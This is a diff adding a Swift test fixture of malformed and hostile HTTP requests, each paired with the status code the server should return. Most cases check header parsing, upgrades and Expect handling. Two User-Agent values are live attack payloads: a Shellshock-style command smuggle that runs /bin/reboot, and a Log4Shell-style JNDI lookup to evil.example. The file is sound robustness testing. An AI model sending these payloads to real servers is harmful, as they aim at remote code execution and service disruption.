@@ -1,0 +1,68 @@
+extension HostileRequest {
+  /// Header lines: their form, and the ones that change what a message is.
+  static let headers: [HostileRequest] = [
+    .init(400, "two hosts", "GET /status HTTP/1.1\r\nHost: localhost\r\nHost: localhost\r\n\r\n"),
+    .init(400, "a host and another", "GET /status HTTP/1.1\r\nHost: localhost\r\nhOsT: evil.example\r\n\r\n"),
+    .init(400, "two hosts for a check", "POST /check HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"),
+    .init(400, "a hundred hosts", "GET /status HTTP/1.1\r\n" + many(100, "Host: localhost\r\n") + "\r\n"),
+    .init(400, "a line without a colon", get("/status", "Nonsense\r\n")),
+    .init(400, "a line that begins with its colon", get("/status", ": empty\r\n")),
+    .init(400, "a blank before the colon", get("/status", "X-Y : 1\r\n")),
+    .init(400, "a blank before the colon of a length", post("Content-Length : 2\r\n", "{}")),
+    .init(400, "a blank in a name", get("/status", "X Y: 1\r\n")),
+    .init(400, "a name that is no text", get("/status", "\u{FF}\u{FE}: 1\r\n")),
+    .init(400, "a zero byte in a name", get("/status", "X\u{0}Y: 1\r\n")),
+    .init(400, "a zero byte in a value", get("/status", "X: a\u{0}b\r\n")),
+    .init(400, "a bell in a value", get("/status", "X: a\u{7}b\r\n")),
+    .init(400, "a carriage return in a value", get("/status", "X: a\rb\r\n")),
+    .init(400, "a folded line", get("/status", "X: a\r\n b\r\n")),
+    .init(400, "a folded line with a tab", get("/status", "X: a\r\n\tb\r\n")),
+    .init(400, "a folded line ahead", "GET /status HTTP/1.1\r\n Host: localhost\r\n\r\n"),
+    .init(400, "a line feed alone", get("/status", "X: a\nY: b\r\n")),
+    .init(200, "an empty value", get("/status", "X:\r\nY: \r\n")),
+    .init(200, "a value of blanks", get("/status", "X: \(many(200, " "))\r\n")),
+    .init(200, "a value of tabs", get("/status", "X:\t\t\tvalue\t\t\r\n")),
+    .init(200, "a value that is no text", get("/status", "X: \u{FF}\u{FE}\u{80}\r\n")),
+    .init(200, "a value of a colon", get("/status", "X: :::\r\n")),
+    .init(200, "a value with a shell in it", get("/status", "User-Agent: () { :;}; /bin/reboot\r\n")),
+    .init(200, "a value with a logger's trap", get("/status", "User-Agent: ${jndi:ldap://evil.example}\r\n")),
+    .init(200, "a name of punctuation", get("/status", "!#$%&'*+-.^_`|~: 1\r\n")),
+    .init(200, "the same name often", get("/status", many(100, "X: 1\r\n"))),
+    .init(200, "many names", get("/status", (0..<200).map { "X-\($0): \($0)\r\n" }.joined())),
+    .init(200, "a range", get("/status", "Range: bytes=0-1,2-3,4-\r\n")),
+    .init(200, "a million ranges", get("/status", "Range: bytes=" + many(2000, "0-,") + "\r\n")),
+    .init(200, "a condition", get("/status", "If-None-Match: *\r\nIf-Modified-Since: x\r\n")),
+    .init(200, "languages and formats", get("/status", "Accept: */*\r\nAccept-Encoding: gzip, br\r\n")),
+    .init(200, "cookies", get("/status", "Cookie: " + many(500, "a=b; ") + "\r\n")),
+    .init(200, "the word of a proxy", get("/status", "X-Forwarded-For: 127.0.0.1\r\nForwarded: for=_x\r\n")),
+    .init(200, "another method in a header", get("/status", "X-HTTP-Method-Override: DELETE\r\n")),
+    .init(
+      200, "another target in a header", get("/status", "X-Original-URL: /check\r\nX-Rewrite-URL: /x\r\n")),
+    .init(200, "authority nobody asked for", get("/status", "Authorization: Basic cm9vdDp0b29y\r\n")),
+    .init(200, "a token nobody asked for", get("/status", "Authorization: Bearer \(many(4000, "x"))\r\n")),
+    .init(
+      200, "a connection to keep", get("/status", "Connection: keep-alive\r\nKeep-Alive: timeout=9999\r\n")),
+    .init(200, "a connection to close", get("/status", "Connection: close, close, Host, X\r\n")),
+    .init(
+      200, "a connection for HTTP/2",
+      get("/status", "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n")),
+    .init(
+      200, "a web socket",
+      get(
+        "/status",
+        "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZQ==\r\nSec-WebSocket-Version: 13\r\n"
+      )),
+    .init(
+      202, "another protocol, and bytes of it",
+      post("Connection: upgrade\r\nUpgrade: x\r\n", many(1000, "\u{0}"))),
+    .init(200, "an upgrade without a connection", get("/status", "Upgrade: h2c\r\n")),
+    .init(202, "an expectation", post("Expect: 100-continue\r\nContent-Length: 2\r\n", "{}")),
+    .init(202, "an expectation in capitals", post("EXPECT: 100-CONTINUE\r\nContent-Length: 2\r\n", "{}")),
+    .init(202, "an expectation without a body", post("Expect: 100-continue\r\n")),
+    .init(202, "expectations", post(many(20, "Expect: 100-continue\r\n") + "Content-Length: 2\r\n", "{}")),
+    .init(202, "an expectation that nobody knows", post("Expect: 200-ok\r\nContent-Length: 2\r\n", "{}")),
+    .init(413, "an expectation of too much", post("Expect: 100-continue\r\nContent-Length: 99999999\r\n")),
+    .init(404, "an expectation at no path", post("Expect: 100-continue\r\nContent-Length: 2\r\n", to: "/x")),
+    .init(late: 408, "an expectation, and no body", post("Expect: 100-continue\r\nContent-Length: 2\r\n")),
+  ]
+}
